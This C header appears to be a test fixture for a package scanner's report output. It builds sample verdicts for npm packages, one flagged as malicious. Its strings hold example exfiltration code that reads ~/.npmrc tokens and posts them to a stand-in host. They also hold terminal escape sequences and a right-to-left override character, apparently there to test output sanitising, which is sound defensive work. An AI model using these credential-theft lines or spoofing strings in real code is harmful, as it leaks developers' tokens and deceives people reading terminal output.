/* report-sample.h - a set of results with everything in it that a report may have to show, hostile
 * text included. */
#pragma once

#include "base/arena.h"
#include "base/buf.h"
#include "event/event.h"
#include "report/report.h"
#include "rule/rule.h"

#define SAMPLE_RESULTS 5

struct sample {
        struct qn_arena arena;
        struct qn_event_set set;
        struct qn_str tactics[2];
        struct qn_rule rules[2];
        const struct qn_event *evidence[3];
        const struct qn_event *missing[1];
        struct qn_finding findings[2];
        struct qn_verdict verdicts[SAMPLE_RESULTS];
        struct qn_result results[SAMPLE_RESULTS];
};

static inline void sample_event(struct sample *s, enum qn_event_kind kind, const char *file,
                                unsigned line, const char *text)
{
        struct qn_event e =
                qn_event_make(kind, QN_LAYER_STATIC,
                              file ? qn_event_set_file(&s->set, qn_str_c(file)) : QN_FILE_NONE);

        e.phase = QN_PHASE_INSTALL;
        e.line = line;
        e.column = line ? 3 : 0;
        e.off = line * 40;
        e.text = qn_str_c(text);
        if (kind == QN_EVENT_UNANALYSED)
                qn_event_attr(&e, QN_ATTR_DETAIL, QN_STR("the file is \x1b[31mtoo large"));
        if (kind == QN_EVENT_INSTALL_HOOK)
                qn_event_attr(&e, QN_ATTR_COMMAND, QN_STR("node lib/setup.js"));
        if (kind == QN_EVENT_NET_SEND)
                qn_event_attr(&e, QN_ATTR_FLOW,
                              QN_STR("lib/a b\xe2\x80\xae.js:14:3\ta file with credentials\t"
                                     "fs.readFileSync('~/.npmrc')\x1b[2J\n"
                                     "lib/setup.js:20:9\tbecomes the body\t"
                                     "post('https://evil.invalid/u', text)"));
        if (qn_event_add(&s->set, &e) < 0)
                abort();
}

static inline const struct qn_event *sample_find(const struct sample *s, enum qn_event_kind kind)
{
        for (size_t i = 0; i < s->set.n; i++)
                if (s->set.events[i].kind == kind)
                        return &s->set.events[i];
        abort();
}

static inline void sample_rules(struct sample *s)
{
        s->tactics[0] = QN_STR("TA0006");
        s->tactics[1] = QN_STR("T1195.002");
        s->rules[0] = (struct qn_rule){
                .id = QN_STR("steal"),
                .title = QN_STR("Credentials leave at install time"),
                .advice = QN_STR("Rotate every credential."),
                .severity = QN_SEV_CRITICAL,
                .verdict = QN_MALICIOUS,
                .score = 90,
                .tactics = s->tactics,
                .n_tactics = 2,
        };
        s->rules[1] = (struct qn_rule){
                .id = QN_STR("hook"),
                .title = QN_STR("Runs a script at install time"),
                .severity = QN_SEV_INFO,
                .verdict = QN_CLEAN,
        };
}

static inline void sample_findings(struct sample *s)
{
        s->evidence[0] = sample_find(s, QN_EVENT_SECRET_READ);
        s->evidence[1] = sample_find(s, QN_EVENT_NET_SEND);
        s->evidence[2] = sample_find(s, QN_EVENT_INSTALL_HOOK);
        s->missing[0] = sample_find(s, QN_EVENT_UNANALYSED);
        s->findings[0] = (struct qn_finding){
                .rule = &s->rules[0],
                .verdict = QN_MALICIOUS,
                .phase = QN_PHASE_INSTALL,
                .evidence = s->evidence,
                .n_evidence = 3,
                .explain = QN_STR("reads npm tokens and sends them to https://evil.invalid")
        };
        s->findings[1] = (struct qn_finding){ .rule = &s->rules[1],
                                              .verdict = QN_CLEAN,
                                              .phase = QN_PHASE_INSTALL,
                                              .evidence = &s->evidence[2],
                                              .n_evidence = 1 };
}

static inline void sample_init(struct sample *s)
{
        *s = (struct sample){ .arena = QN_ARENA_INIT((size_t)8 << 20) };
        qn_event_set_init(&s->set, &s->arena);
        sample_event(s, QN_EVENT_SECRET_READ, "lib/a b\xe2\x80\xae.js", 14,
                     "fs.readFileSync('~/.npmrc')\x1b[2J");
        sample_event(s, QN_EVENT_NET_SEND, "lib/setup.js", 22,
                     "fetch('https://evil.invalid/u', {method:'POST'})");
        sample_event(s, QN_EVENT_INSTALL_HOOK, "package.json", 0, "");
        sample_event(s, QN_EVENT_UNANALYSED, "big.js", 0, "");
        if (qn_event_set_seal(&s->set) < 0)
                abort();
        sample_rules(s);
        sample_findings(s);
        s->verdicts[0] = (struct qn_verdict){
                .kind = QN_MALICIOUS,
                .score = 97,
                .reason = QN_STR("It reads npm tokens and sends them to https://evil.invalid."),
                .findings = s->findings,
                .n = 2
        };
        s->verdicts[1] = (struct qn_verdict){ .kind = QN_CLEAN,
                                              .reason = QN_STR("Nothing was found."),
                                              .findings = &s->findings[1],
                                              .n = 1 };
        s->verdicts[2] = (struct qn_verdict){ .kind = QN_UNKNOWN,
                                              .reason = QN_STR("A file was not analysed."),
                                              .unanalysed = s->missing,
                                              .n_unanalysed = 1 };
        s->verdicts[3] = qn_result_unknown(QN_STR("The registry has no package of that name."));
        s->verdicts[4] = s->verdicts[1];
        for (size_t i = 0; i < SAMPLE_RESULTS; i++)
                s->results[i] = (struct qn_result){ .target = QN_STR("package-lock.json"),
                                                    .version = QN_STR("1.0.0"),
                                                    .integrity = QN_STR("sha512-AAAA"),
                                                    .verdict = &s->verdicts[i],
                                                    .set = &s->set,
                                                    .elapsed_ns = 1234567 };
        s->results[0].name = QN_STR("@evil/pad\x1b]0;x\x07");
        s->results[1].name = QN_STR("good");
        s->results[2].name = QN_STR("large");
        s->results[3] = (struct qn_result){ .target = QN_STR("no-such-package"),
                                            .verdict = &s->verdicts[3] };
        s->results[4].name = QN_STR("also-good");
}

static inline void sample_done(struct sample *s)
{
        qn_arena_done(&s->arena);
}

/* Adds the results beginning with the first-th and going round, then ends the report. */
static inline int sample_report(const struct sample *s, const struct qn_report_opts *o,
                                size_t first, struct qn_buf *out)
{
        _cleanup_(qn_report_freep) struct qn_report *r = NULL;

        if (qn_report_new(o, &r) < 0)
                abort();
        for (size_t i = 0; i < SAMPLE_RESULTS; i++)
                if (qn_report_add(r, &s->results[(first + i) % SAMPLE_RESULTS]) < 0)
                        abort();
        if (qn_report_end(r, 0, out) < 0)
                abort();
        return qn_report_status(r);
}
